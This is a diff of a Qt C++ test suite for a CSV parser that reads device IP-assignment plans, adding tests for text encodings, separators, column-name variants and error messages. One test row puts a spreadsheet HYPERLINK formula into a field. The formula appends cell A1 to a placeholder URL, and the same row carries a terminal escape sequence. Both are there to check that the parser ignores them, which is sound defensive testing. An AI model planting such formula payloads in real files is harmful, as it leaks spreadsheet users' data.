@@ -26,9 +26,31 @@ QStringList described(const QList<Assignment>& plan)
 }
 
 bool readPlan(const QByteArray& bytes, const QString& mask, const QString& gateway, QList<Assignment>* plan,
-    PlanError* error)
+    PlanError* error, const TextEncoding& encoding = {})
 {
-    return ReadPlan(bytes, mask, gateway, plan, error) && CheckAssignments(*plan, error);
+    return ReadPlan(bytes, encoding, mask, gateway, plan, error) && CheckAssignments(*plan, error);
+}
+
+// Text as Excel's "Unicode Text" saves it: UTF-16 with its byte-order mark.
+QByteArray utf16(const QString& text, bool littleEndian = true)
+{
+    QByteArray bytes = littleEndian ? "\xFF\xFE" : "\xFE\xFF";
+    for (const QChar c : text) {
+        const char low = char(c.unicode() & 0xFF), high = char(c.unicode() >> 8);
+        bytes += littleEndian ? low : high;
+        bytes += littleEndian ? high : low;
+    }
+    return bytes;
+}
+
+const QString kNotUtf8 = "not UTF-8 text: save it as \"CSV UTF-8\", or give its encoding with --encoding "
+                         "(GB18030, windows-1252, for example)";
+
+QString noColumn(const QString& column, const QString& names)
+{
+    return QStringLiteral("no %1 column; the header row must name sn and ip (%1 may be headed %2, in any "
+                          "case, with or without blanks, - and _)")
+        .arg(column, names);
 }
 
 bool readRange(
@@ -58,6 +80,8 @@ private slots:
     void planRefusals();
     void planReadsWhatPeopleWrite_data();
     void planReadsWhatPeopleWrite();
+    void planAsSpreadsheetsSaveIt_data();
+    void planAsSpreadsheetsSaveIt();
     void rangeRefusals_data();
     void rangeRefusals();
     void rangeGivesConsecutiveAddresses();
@@ -106,7 +130,7 @@ void TestPlan::planRefusals_data()
         << kHead + "SN0001,192.168.1.127,255.255.255.128,\n"
         << m << "" << 2 << "192.168.1.127 is the broadcast address of 192.168.1.0/25";
     QTest::newRow("no sn column") << QByteArray("\xEF\xBB\xBFip,mask\r\n192.168.1.20,255.255.255.0\r\n") << m
-                                  << "" << 1 << "no sn column; the header row must name sn and ip";
+                                  << "" << 1 << noColumn("sn", "sn, serial, serial number or 序列号");
     QTest::newRow("empty file") << QByteArray() << m << "" << 1
                                 << "the file is empty; its first line must name the columns sn and ip";
     QTest::newRow("command too long for a frame")
@@ -118,31 +142,31 @@ void TestPlan::planRefusals_data()
     for (char& c : noise)
         c = char(random());
     // Its first line end comes before its first NUL.
-    QTest::newRow("10 MB of random bytes") << noise << m << "" << 1 << "not UTF-8 text";
+    QTest::newRow("10 MB of random bytes") << noise << m << "" << 1 << kNotUtf8;
 
     QTest::newRow("NUL byte") << QByteArray("sn,ip\nA,192.168.1.20\nB") + '\0' + ",192.168.1.21\n"
                               << m << "" << 3 << "a NUL byte: this is not a text file";
-    QTest::newRow("bad UTF-8") << QByteArray("sn,ip\nA\xff,192.168.1.20\n") << m << "" << 2
-                               << "not UTF-8 text";
-    QTest::newRow("UTF-8 cut at the end") << QByteArray("sn,ip\nA,1\xc3") << m << "" << 2 << "not UTF-8 text";
+    QTest::newRow("bad UTF-8") << QByteArray("sn,ip\nA\xff,192.168.1.20\n") << m << "" << 2 << kNotUtf8;
+    QTest::newRow("UTF-8 cut at the end") << QByteArray("sn,ip\nA,1\xc3") << m << "" << 2 << kNotUtf8;
     QTest::newRow("blank lines alone") << QByteArray("\n  \r\n\t\n") << m << "" << 1
                                        << "no header row; the first line must name the columns sn and ip";
     QTest::newRow("byte-order mark alone") << QByteArray("\xEF\xBB\xBF") << m << "" << 1
                                            << "no header row; the first line must name the columns sn and ip";
     QTest::newRow("quote inside a field") << QByteArray("sn,ip\nS\"N,192.168.1.20\n") << m << "" << 2
-                                          << "a quote inside a field that does not start with one";
+                                          << "sn: a quote inside a field that does not start with one";
     QTest::newRow("text after a closing quote") << QByteArray("sn,ip\n\"SN\"x,192.168.1.20\n") << m << "" << 2
-                                                << "text after the closing quote of a field";
+                                                << "sn: text after the closing quote of a field";
     QTest::newRow("quote never closed: where it opens")
         << QByteArray("sn,ip\nA,192.168.1.20\n\"B,192.168.1.21\nC,192.168.1.22\n") << m << "" << 3
         << "a quoted field is never closed";
-    QTest::newRow("column twice") << QByteArray("sn,ip, SN\n") << m << "" << 1 << "column sn appears twice";
+    QTest::newRow("column twice") << QByteArray("Serial,ip, SN\n") << m << "" << 1
+                                  << "column sn appears twice ('Serial' and 'SN')";
     QTest::newRow("no ip column") << QByteArray("sn,address\nA,192.168.1.20\n") << m << "" << 1
-                                  << "no ip column; the header row must name sn and ip";
+                                  << noColumn("ip", "ip, IP address, new IP or IP地址");
     QTest::newRow("header after blank lines, no device")
         << QByteArray("\n\nsn,ip\n\n") << m << "" << 3 << "a header row and no device";
-    QTest::newRow("fewer fields than the header")
-        << QByteArray("sn,ip,mask\nA,192.168.1.20\n") << m << "" << 2 << "2 fields, but the header row has 3";
+    QTest::newRow("more fields than the header")
+        << QByteArray("sn,ip\nA,192.168.1.20,,x\n") << m << "" << 2 << "4 fields, but the header row has 2";
     QTest::newRow("line of a record after a quoted line end")
         << QByteArray("sn,ip\n\"A\nB\",192.168.1.20\nC,192.168.1.x\n") << m << "" << 4
         << "ip '192.168.1.x' is not a plain dotted IPv4 address: octet x is not a decimal number";
@@ -230,6 +254,103 @@ void TestPlan::planReadsWhatPeopleWrite()
     PlanError error;
     QVERIFY2(readPlan(plan, "255.255.255.0", gateway, &assignments, &error), qPrintable(error.text));
     QCOMPARE(described(assignments), expected);
+}
+
+void TestPlan::planAsSpreadsheetsSaveIt_data()
+{
+    QTest::addColumn<QByteArray>("plan");
+    QTest::addColumn<QByteArray>("encoding"); // --encoding
+    QTest::addColumn<QByteArray>("fallback"); // the system's code page
+    QTest::addColumn<QStringList>("expected"); // the plan, or "refused: line N: why"
+    const QByteArray none;
+    const QString a20 = "192.168.1.20/255.255.255.0 gw 192.168.1.1 line ";
+    QTest::newRow("semicolons, as where the list separator is one")
+        << QByteArray("sn;ip;mask\r\nA;192.168.1.20;\r\nB;192.168.1.21;255.255.0.0\r\n") << none << none
+        << QStringList { "A " + a20 + "2", "B 192.168.1.21/255.255.0.0 gw 192.168.1.1 line 3" };
+    QTest::newRow("sep= line, quoted header, a comma in a cell")
+        << QByteArray("\xEF\xBB\xBFsep=;;\r\n\"SN\";\"IP Address\"\r\n\"A,1\";192.168.1.20\r\n") << none
+        << none << QStringList { "A,1 " + a20 + "3" };
+    QTest::newRow("tabs in UTF-16LE with a mark, the window's column names")
+        << utf16(QStringLiteral("序列号\tIP地址\t子网掩码\t网关地址\r\n甲\t192.168.1.20\t255.255.255.0\t"
+                                "192.168.1.254\r\n"))
+        << none << none << QStringList { "甲 192.168.1.20/255.255.255.0 gw 192.168.1.254 line 2" };
+    QTest::newRow("UTF-16BE with a mark")
+        << utf16("sn,ip\nA,192.168.1.20\n", false) << none << none << QStringList { "A " + a20 + "2" };
+    // 序列号, IP地址, 备注 and a name with é and an emoji, which take four bytes each.
+    const QByteArray gb18030 = "\xd0\xf2\xc1\xd0\xba\xc5\x09IP\xb5\xd8\xd6\xb7\x09\xb1\xb8\xd7\xa2\x0d\x0a"
+                               "\xbc\xd7"
+                               "1\x09"
+                               "192.168.1.20\x09\xd6\xd0\xce\xc4\xc3\xfb \xa8\xa6\x94"
+                               "9\xfc"
+                               "6\x0d\x0a";
+    QTest::newRow("GB18030 with --encoding")
+        << gb18030 << QByteArray("GB18030") << none << QStringList { "甲1 " + a20 + "2" };
+    const QByteArray gbk = "sn,ip,\xb1\xb8\xd7\xa2\r\nA,192.168.1.20,\xd6\xd0\xce\xc4\xc3\xfb\r\n";
+    QTest::newRow("GBK in the system's code page")
+        << gbk << none << QByteArray("GBK") << QStringList { "A " + a20 + "2" };
+    QTest::newRow("windows-1252 with --encoding")
+        << QByteArray("sn;ip;Name\r\nM\xfc"
+                      "1;192.168.1.20;Caf\xe9\r\n")
+        << QByteArray("windows-1252") << none << QStringList { "Mü1 " + a20 + "2" };
+    QTest::newRow("the names people write")
+        << QByteArray(
+               "Serial Number,IP-Address,Subnet_Mask,Default Gateway\nA,10.0.0.20,255.0.0.0,10.0.0.254\n")
+        << none << none << QStringList { "A 10.0.0.20/255.0.0.0 gw 10.0.0.254 line 2" };
+    QTest::newRow("other names, in another order")
+        << QByteArray(" serial ,NETMASK, New IP ,gw\nB,,10.0.0.21,\n") << none << none
+        << QStringList { "B 10.0.0.21/255.255.255.0 gw 10.0.0.1 line 2" };
+    QTest::newRow("a search's CSV with a new ip column: the old ip is not the plan's")
+        << QByteArray(
+               "kind,name,ip,sn,id,configurable,from,interface,New IP\r\n"
+               "reply,Device-01,192.168.1.101,SN0001,ID0001,true,192.168.1.101:8839,eth0,192.168.1.20\r\n")
+        << none << none << QStringList { "SN0001 " + a20 + "2" };
+    QTest::newRow("an unused column holds anything")
+        << "sn,note,ip\r\nA,\"=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"open\"\")\",192.168.1.20\r\n"
+           "B,5\" screen \"a\"b \x1b[2J"
+            + QByteArray(100000, 'x') + ",192.168.1.21\r\n"
+        << none << none
+        << QStringList { "A " + a20 + "2", "B 192.168.1.21/255.255.255.0 gw 192.168.1.1 line 3" };
+    QTest::newRow("formula guards taken off, the text's own apostrophes kept")
+        << QByteArray("sn,ip\r\n'=SN1,192.168.1.20\r\n\"''=SN2\",192.168.1.21\r\n'SN3,192.168.1.22\r\n"
+                      "\"'-\tx \",192.168.1.23\r\n")
+        << none << none
+        << QStringList { "=SN1 " + a20 + "2", "'=SN2 192.168.1.21/255.255.255.0 gw 192.168.1.1 line 3",
+               "'SN3 192.168.1.22/255.255.255.0 gw 192.168.1.1 line 4",
+               "-\tx  192.168.1.23/255.255.255.0 gw 192.168.1.1 line 5" };
+    QTest::newRow("rows short of the header, empty cells past it")
+        << QByteArray("sn,ip,mask,gateway,note\r\nA,192.168.1.20\r\nB,192.168.1.21,,,,,\r\n") << none << none
+        << QStringList { "A " + a20 + "2", "B 192.168.1.21/255.255.255.0 gw 192.168.1.1 line 3" };
+
+    QTest::newRow("GBK, no encoding given")
+        << gbk << none << none << QStringList { "refused: line 1: " + kNotUtf8 };
+    QTest::newRow("not even the system's code page")
+        << QByteArray("sn,ip\r\nA\x81 ,192.168.1.20\r\n") << none << QByteArray("GBK")
+        << QStringList { "refused: line 2: neither UTF-8 nor text in the system's code page GBK: save it as "
+                         "\"CSV UTF-8\", or give its encoding with --encoding (GB18030, windows-1252, for "
+                         "example)" };
+    QTest::newRow("not what --encoding says")
+        << QByteArray("sn,ip\r\nA,1\r\nB\x81 ,192.168.1.20\r\n") << QByteArray("GB18030") << none
+        << QStringList { "refused: line 3: not GB18030 text, as --encoding "
+                         "says it is" };
+    QTest::newRow("a UTF-16 mark, then an odd byte")
+        << utf16("sn,ip\n") + 'A' << none << none
+        << QStringList { "refused: line 2: not UTF-16LE text, though "
+                         "it begins with the byte-order mark of "
+                         "UTF-16LE" };
+}
+
+void TestPlan::planAsSpreadsheetsSaveIt()
+{
+    QFETCH(QByteArray, plan);
+    QFETCH(QByteArray, encoding);
+    QFETCH(QByteArray, fallback);
+    QFETCH(QStringList, expected);
+    QList<Assignment> assignments;
+    PlanError error;
+    const bool read = readPlan(plan, "255.255.255.0", "", &assignments, &error, { encoding, fallback });
+    QCOMPARE(read ? described(assignments)
+                  : QStringList { QStringLiteral("refused: line %1: %2").arg(error.line).arg(error.text) },
+        expected);
 }
 
 void TestPlan::rangeRefusals_data()
